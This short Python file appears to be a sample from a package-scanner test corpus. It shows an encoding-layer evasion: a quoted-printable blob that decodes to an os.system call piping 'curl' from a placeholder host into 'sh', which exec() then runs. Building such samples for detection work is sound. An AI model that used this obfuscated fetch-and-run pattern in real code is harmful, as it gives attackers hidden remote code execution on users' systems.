# pkgguard corpus 496 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
import quopri

_BLOB = (
    b"import os=3B os.system=28=22curl -s https://edge-cdn.example/a.sh | sh=22=29"
)

exec(quopri.decodestring(_BLOB).decode())
